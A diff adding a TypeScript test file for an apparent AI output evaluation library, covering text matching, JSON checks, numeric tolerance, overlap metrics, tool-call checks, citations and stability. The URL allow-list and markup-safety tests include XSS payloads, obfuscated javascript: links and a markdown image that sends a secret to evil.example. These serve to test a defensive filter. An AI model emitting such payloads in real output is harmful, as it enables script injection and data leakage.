@@ -1,0 +1,370 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { says } from './measuring.ts';
+
+test('text kinds compare after NFC and show the span in the text as it was given', async () => {
+  await says('pass', 'exact', {}, { output: ' Cafe\u0301 ', expected: 'café' });
+  await says('fail', 'exact', { case_sensitive: true }, { output: 'Cafe', expected: 'cafe' });
+  await says('fail', 'exact', { trim: false }, { output: 'a ', expected: 'a' });
+  await says('not_evaluated missing_expected', 'exact', {}, { output: 'a' });
+  const { evidence } = await says(
+    'pass',
+    'contains_any',
+    { values: ['résumé', 'x'] },
+    { output: 'İ re\u0301sume\u0301!' },
+  );
+  assert.deepEqual(evidence, [{ field: 'output', start: 2, end: 10, text: 're\u0301sume\u0301' }]);
+});
+
+test('contains looks for any, all or none, by letters or by words', async () => {
+  const output = 'I know the refund takes 14 days.';
+  await says('pass', 'contains_any', { values: ['no', 'never'] }, { output });
+  await says('fail', 'contains_any', { values: ['no', 'never'], whole_word: true }, { output });
+  const half = await says('fail', 'contains_all', { values: ['refund', 'voucher'] }, { output });
+  assert.equal(half.score, 0.5);
+  await says('pass', 'contains_all', { values: ['refund', '14 days'] }, { output });
+  await says('pass', 'contains_none', { values: ['voucher'] }, { output });
+  await says('fail', 'contains_none', { values: ['REFUND'] }, { output });
+  await says('not_evaluated empty_output', 'contains_none', { values: ['voucher'] }, { output: '  ' });
+});
+
+test('patterns are RE2, and a negation inverts verdicts but never what has none', async () => {
+  await says('pass', 'regex', { pattern: String.raw`\b\d{2} days\b` }, { output: 'in 14 days' });
+  await says('fail', 'regex', { pattern: '^in$', flags: '' }, { output: 'in 14 days' });
+  await says('pass', 'regex', { pattern: '^in$', flags: '' }, { output: 'in 14 days' }, { negate: true });
+  await says('fail', 'exact', {}, { output: 'a', expected: 'a' }, { negate: true });
+  await says('not_evaluated missing_expected', 'exact', {}, { output: 'a' }, { negate: true });
+  await assert.rejects(says('error', 'regex', { pattern: '(?=a)' }, { output: 'a' }));
+  await assert.rejects(says('error', 'regex', { pattern: '(a{100}){1000}' }, { output: 'a' }));
+});
+
+test('beginnings and endings are looked at without surrounding blanks', async () => {
+  await says('pass', 'starts_with', { value: 'dear' }, { output: '\n Dear customer' });
+  await says('fail', 'starts_with', { value: 'Dear', case_sensitive: true }, { output: 'dear customer' });
+  await says('pass', 'ends_with', { value: 'regards' }, { output: 'Kind Regards \n' });
+  await says('fail', 'ends_with', { value: 'regards' }, { output: 'Regards, Eve' });
+});
+
+test('JSON is read whole or from the one fenced block', async () => {
+  const fenced = 'Here:\n```json\n{"total": 42, "items": [{"id": "a"}], "note": "été"}\n```\nBye';
+  await says('pass', 'json_valid', { require: 'object' }, { output: fenced });
+  await says('fail', 'json_valid', { require: 'array' }, { output: fenced });
+  await says('fail', 'json_valid', {}, { output: '{"a": }' });
+  await says('fail', 'json_valid', {}, { output: '```\n{}\n```\n```\n{}\n```' });
+  await says('pass', 'json_path', { path: '$.items[0].id', equals: 'a' }, { output: fenced });
+  await says('pass', 'json_path', { path: '$.items[*].id', matches: '^[ab]$' }, { output: fenced });
+  await says('pass', 'json_path', { path: '$.missing', exists: false }, { output: fenced });
+  await says('fail', 'json_path', { path: '$.missing' }, { output: fenced });
+  await says(
+    'pass',
+    'field_equality',
+    { fields: { total: 0.5 } },
+    { output: fenced, expected: '{"total": 42.4}' },
+  );
+  const half = await says(
+    'fail',
+    'field_equality',
+    { fields: ['total', 'items.0.id'] },
+    {
+      output: fenced,
+      expected: { total: 42, items: [{ id: 'b' }] },
+    },
+  );
+  assert.equal(half.score, 0.5);
+  await says(
+    'not_evaluated expected_not_json',
+    'field_equality',
+    { fields: ['a'] },
+    { output: '{}', expected: 'a' },
+  );
+});
+
+test('a schema tells each fault with its path, and takes no pattern for another', async () => {
+  const schema = {
+    type: 'object',
+    required: ['code', 'name'],
+    properties: {
+      code: { type: 'string', pattern: '^[A-Z]+$' },
+      name: { type: 'string', pattern: '^[a-z]+$' },
+    },
+  };
+  await says('pass', 'json_schema', { schema }, { output: '{"code": "AB", "name": "ab"}' });
+  const wrong = await says('fail', 'json_schema', { schema }, { output: '{"code": "AB", "name": "AB"}' });
+  assert.match(wrong.reason, /\/name/);
+  await says('fail', 'json_schema', { schema }, { output: '{"code": "AB"}' });
+  await says('error schema_invalid', 'json_schema', { schema: { type: 'nonsense' } }, { output: '{}' });
+  const old = { $schema: 'http://json-schema.org/draft-07/schema#', type: 'object' };
+  await says('pass', 'json_schema', { schema: old }, { output: '{}' });
+});
+
+test('numbers are compared within their tolerance, and an ambiguous one decides nothing', async () => {
+  const numeric = (expected: string, args: object, output: string, wanted: string) =>
+    says(expected, 'numeric', { ...args }, { output, expected: wanted });
+  await numeric('pass', {}, 'The total is 1,234.50 euros.', '1234.5');
+  await numeric('fail', {}, 'The total is 41.', '42');
+  await numeric('pass', { tolerance: 1 }, 'About 41.', '42');
+  await numeric('pass', { tolerance: 0.05, relative: true }, '100', '104');
+  await numeric('pass', { unit_words: ['days'] }, 'In 2 steps you have 30 days.', '30 days');
+  await numeric('pass', {}, 'For 3 items at 14 each the total is 42.', '42');
+  await numeric('fail', {}, 'For 3 items at 14 each the total is 43.', '42');
+  await numeric('not_evaluated ambiguous_number', {}, 'Between 42 and 45.', '42');
+  await numeric('fail', {}, 'I do not know.', '42');
+  await numeric('not_evaluated expected_no_number', {}, '42', 'forty-two');
+});
+
+test('overlap kinds fail below their threshold, and a given threshold wins', async () => {
+  const pair = { output: 'The cat sat on a mat', expected: 'A dog lay in the garden' };
+  for (const kind of ['token_f1', 'rouge_n', 'rouge_l', 'bleu', 'chrf']) {
+    await says('fail', kind, {}, pair);
+    await says('pass', kind, {}, { ...pair, expected: pair.output });
+  }
+  await says('pass', 'token_f1', {}, { output: 'red green', expected: 'red blue' }, { threshold: 0.4 });
+  await says('pass', 'edit_distance', { max_distance: 3 }, { output: 'kitten', expected: 'sitting' });
+  await says('fail', 'edit_distance', { max_ratio: 0.2 }, { output: 'kitten', expected: 'sitting' });
+  await says(
+    'not_evaluated too_large',
+    'edit_distance',
+    { max_distance: 3 },
+    { output: 'x'.repeat(10_001), expected: 'x' },
+  );
+});
+
+test('length, sentences, repetition, readability and latency hold their limits', async () => {
+  await says('pass', 'length', { max: 3 }, { output: '😀😀😀' });
+  await says('fail', 'length', { min: 3, unit: 'words' }, { output: 'two words' });
+  await says('pass', 'length', { min: 2, unit: 'words' }, { output: '今日は天気がいいです' });
+  await says('fail', 'sentences', { max: 1 }, { output: 'One. Two.' });
+  await says('fail', 'repetition', {}, { output: 'I am sorry about that. '.repeat(8) });
+  await says(
+    'pass',
+    'repetition',
+    {},
+    { output: 'Each of these words stands here once, as one would hope of a plain and short answer.' },
+  );
+  const plain =
+    'You can send it back within thirty days. We will then give you your money back. It takes us a week or two.';
+  await says('pass', 'readability', { max: 30 }, { output: plain });
+  await says('pass', 'readability', { max: 5, formula: 'flesch_kincaid' }, { output: plain });
+  const german =
+    'Sie können die Ware innerhalb von dreißig Tagen zurückgeben. Danach erhalten Sie den gesamten Kaufpreis von uns zurück, sofern die Verpackung vollständig ist.';
+  await says(
+    'not_evaluated not_english',
+    'readability',
+    { max: 5, formula: 'flesch_kincaid' },
+    { output: german },
+  );
+  await says('fail', 'readability', { max: 30 }, { output: german });
+  await says('pass', 'latency', { max_ms: 100 }, { duration_ms: 100 });
+  await says('fail', 'latency', { max_ms: 100 }, { duration_ms: 101 });
+  const others = [10, 20, 500].map((duration_ms) => ({
+    relation: 'repeat' as const,
+    output: 'x',
+    duration_ms,
+  }));
+  await says('pass', 'latency', { max_ms: 30, percentile: 75 }, { duration_ms: 30, others });
+  await says('fail', 'latency', { max_ms: 30, percentile: 95 }, { duration_ms: 30, others });
+  await says('not_evaluated missing_others', 'latency', { max_ms: 30, percentile: 95 }, { duration_ms: 3 });
+});
+
+test('the language of an answer is told, and too short a one is unclear', async () => {
+  const german = 'Guten Tag, Ihre Bestellung wurde gestern verschickt und kommt morgen bei Ihnen an.';
+  const english = 'Good morning, your order was shipped yesterday and will arrive at your place tomorrow.';
+  await says('pass', 'language', { language: 'de' }, { output: german });
+  await says('fail', 'language', { language: 'de' }, { output: english });
+  await says('fail', 'language', { language: 'de' }, { output: `${german}\n\n${english}` });
+  await says('not_evaluated unclear', 'language', { language: 'de' }, { output: 'Ja, gerne.' });
+  await says(
+    'pass',
+    'language',
+    { language: 'ja' },
+    { output: 'ご注文は昨日発送されました。明日お手元に届く予定です。' },
+  );
+});
+
+test('links are judged by the host a browser would go to', async () => {
+  const hosts = { hosts: ['example.com', '*.shop.example', 'bücher.example'] };
+  await says('pass', 'url_allow_list', hosts, {
+    output: 'See https://example.com/a and [b](https://a.shop.example/x).',
+  });
+  await says('pass', 'url_allow_list', hosts, { output: 'https://xn--bcher-kva.example' });
+  await says('pass', 'url_allow_list', hosts, { output: 'No link here.' });
+  for (const link of [
+    'https://example.com@evil.example/',
+    'https://example.com.evil.example',
+    'https://shop.example.evil.example',
+    '[x](//evil.example/a.png)',
+    'javascript:alert(1)',
+    'www.evil.example',
+    'https://evilexample.com',
+  ])
+    await says('fail', 'url_allow_list', hosts, { output: `See ${link} please` });
+});
+
+test('markup that would run or load something fails; the same as code is harmless', async () => {
+  for (const output of [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '[click](javascript:alert(1))',
+    '![](https://evil.example/p.png?d=secret)',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<img src="//evil.example/x">',
+    '<svg/onload=alert(1)>',
+    '[x](data:text/html;base64,PHNjcmlwdD4=)',
+    '```\nnever closed <script>',
+  ])
+    await says('fail', 'markup_safety', {}, { output });
+  for (const output of [
+    'Use `<script>` with care.',
+    '```html\n<script>alert(1)</script>\n```',
+    'A [link](https://example.com) and **bold**.',
+    'In JavaScript: use let. 3 < 5 and onion = tasty.',
+    '&lt;script&gt; is text',
+  ])
+    await says('pass', 'markup_safety', {}, { output });
+});
+
+test('tool calls are counted, compared and ordered; an endpoint that maps none is not evaluated', async () => {
+  const tool_calls = [
+    { name: 'find_order', arguments: { id: 7, verbose: true } },
+    { function: { name: 'refund', arguments: '{"order": {"id": 7, "lines": [1, 2]}, "amount": 20}' } },
+  ];
+  await says('pass', 'tool_called', { tool: 'refund' }, { tool_calls });
+  await says('fail', 'tool_called', { tool: 'refund', min: 2 }, { tool_calls });
+  await says('fail', 'tool_not_called', { tool: 'refund' }, { tool_calls });
+  await says('pass', 'tool_not_called', { tool: 'delete' }, { tool_calls: [] });
+  await says('not_evaluated missing_tool_calls', 'tool_not_called', { tool: 'delete' }, { output: 'x' });
+  await says('pass', 'tool_arguments', { tool: 'refund', arguments: { order: { id: 7 } } }, { tool_calls });
+  await says('fail', 'tool_arguments', { tool: 'refund', arguments: { amount: 21 } }, { tool_calls });
+  await says(
+    'fail',
+    'tool_arguments',
+    { tool: 'refund', arguments: { order: { lines: [1] } } },
+    { tool_calls },
+  );
+  await says('pass', 'tool_order', { tools: ['find_order', 'refund'] }, { tool_calls });
+  await says('fail', 'tool_order', { tools: ['refund', 'find_order'] }, { tool_calls });
+  await says('fail', 'tool_order', { tools: ['refund'], strict: true }, { tool_calls });
+  await says('pass', 'tool_order', { tools: ['refund'] }, { tool_calls });
+});
+
+test('citations must point into the context', async () => {
+  const context = ['Returns are free.', { content: 'Shipping takes 3 days.' }];
+  await says('pass', 'citation', {}, { output: 'Free [1], in 3 days [2].', context });
+  await says('fail', 'citation', {}, { output: 'Free [1], fast [3].', context });
+  await says('fail', 'citation', {}, { output: 'Free.', context });
+  await says(
+    'pass',
+    'citation',
+    { pattern: '<q>([^<]+)</q>' },
+    { output: '<q>returns are  free</q>', context },
+  );
+  await says(
+    'pass',
+    'citation',
+    { field: 'sources' },
+    { output: 'x', context, metadata: { sources: [1, { quote: 'Shipping takes' }] } },
+  );
+  await says('not_evaluated missing_context', 'citation', {}, { output: 'x [1]' });
+});
+
+test('a goal is judged by criterion, with its turn, and what no rule reads stays open', async () => {
+  const conversation = [
+    { role: 'user', content: 'I want my money back.' },
+    { role: 'assistant', content: 'Gladly. What is your order number?' },
+    { role: 'user', content: '7' },
+    { role: 'assistant', content: 'Done: you have 30 days to send it back.' },
+  ];
+  const met = await says(
+    'pass',
+    'goal',
+    { criteria: ['mentions "30 days"', 'asks for the order number', 'does not reveal "internal"'] },
+    { conversation },
+  );
+  assert.deepEqual(
+    met.evidence.map(({ index, text }) => [index, text]),
+    [
+      [3, '30 days'],
+      [1, 'What is your order number?'],
+    ],
+  );
+  await says('fail', 'goal', { criteria: ['mentions "voucher"', 'is friendly'] }, { conversation });
+  await says(
+    'not_evaluated unclear',
+    'goal',
+    { criteria: ['mentions "30 days"', 'is friendly'] },
+    { conversation },
+  );
+  await says(
+    'pass',
+    'goal',
+    { criteria: ['does not refuse', 'calls the tool refund'] },
+    { conversation, tool_calls: [{ name: 'refund' }] },
+  );
+});
+
+test('relations hold an answer against the answer to the original', async () => {
+  const original = (output: string | null, relation = 'paraphrase' as const) => [{ relation, output }];
+  const output = 'Yes, you have 30 days to return it to Berlin.';
+  await says(
+    'pass',
+    'relation_same',
+    {},
+    { output, others: original('Yes. Send it to Berlin within 30 days.') },
+  );
+  await says(
+    'fail',
+    'relation_same',
+    {},
+    { output, others: original('No, that is not possible after 14 days.') },
+  );
+  await says('pass', 'relation_different', {}, { output, others: original('No, you cannot return it.') });
+  await says('fail', 'relation_different', {}, { output, others: original(output) });
+  await says(
+    'not_evaluated no_facts',
+    'relation_same',
+    {},
+    { output: 'it depends.', others: original('perhaps.') },
+  );
+  await says('not_evaluated partner_failed', 'relation_same', {}, { output, others: original(null) });
+  await says('not_evaluated missing_others', 'relation_same', {}, { output });
+  const refusal = 'I am sorry, but I cannot help with that.';
+  await says(
+    'pass',
+    'relation_same_refusal',
+    {},
+    { output: 'Dabei kann ich leider nicht helfen.', others: original(refusal) },
+  );
+  await says('fail', 'relation_same_refusal', {}, { output, others: original(refusal) });
+});
+
+test('stability is told over repeats, by facts, words or verdicts', async () => {
+  const repeats = (...outputs: (string | null)[]) =>
+    outputs.map((text) => ({ relation: 'repeat' as const, output: text, verdict: 'Pass' }));
+  await says(
+    'pass',
+    'stable',
+    {},
+    { output: 'It takes 3 days.', others: repeats('3 days.', 'About 3 days, usually.') },
+  );
+  await says('fail', 'stable', {}, { output: 'It takes 3 days.', others: repeats('It takes 4 days.') });
+  await says('fail', 'stable', { by: 'text' }, { output: 'It takes 3 days.', others: repeats('3 days.') });
+  await says(
+    'pass',
+    'stable',
+    { max_distinct: 2 },
+    { output: 'It takes 3 days.', others: repeats('4 days.') },
+  );
+  await says('not_evaluated partner_failed', 'stable', {}, { output: '3', others: repeats(null) });
+  await says('fail', 'stable', { by: 'verdict' }, { output: '3', verdict: 'Fail', others: repeats('3') });
+});
+
+test('a score, a threshold and a verdict never disagree', async () => {
+  const item = { output: 'red green blue', expected: 'red green' };
+  for (const threshold of [0, 0.25, 0.5, 0.8, 1]) {
+    const { score, verdict } = await says(threshold <= 0.8 ? 'pass' : 'fail', 'token_f1', {}, item, {
+      threshold,
+    });
+    assert.equal(verdict === 'pass', (score ?? 0) >= threshold - 1e-9);
+  }
+});
